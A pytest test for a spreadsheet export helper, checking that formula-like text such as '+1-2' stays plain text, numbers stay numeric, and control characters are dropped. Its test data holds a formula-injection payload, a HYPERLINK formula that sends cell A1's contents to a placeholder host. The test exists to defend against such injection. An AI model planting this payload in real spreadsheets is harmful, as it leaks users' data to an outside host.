"""Exported text is never a formula, in normal and write-only workbooks, and reads back verbatim."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from domain.spreadsheet import append_row

HOSTILE = '=HYPERLINK("http://x/?"&A1,"点此")'


@pytest.mark.parametrize("write_only", [False, True])
def test_text_that_looks_like_a_formula_stays_text(write_only: bool) -> None:
    """A name starting with = is stored as a string; numbers stay numbers; control characters are dropped."""
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("导出") if write_only else workbook.active
    assert sheet is not None
    append_row(sheet, [HOSTILE, "+1-2", 42, "正常\x07文本"])
    buffer = io.BytesIO()
    workbook.save(buffer)

    row = next(load_workbook(io.BytesIO(buffer.getvalue()))["导出" if write_only else "Sheet"].iter_rows())
    assert [(cell.value, cell.data_type) for cell in row] == [
        (HOSTILE, "s"),
        ("+1-2", "s"),
        (42, "n"),
        ("正常文本", "s"),
    ]
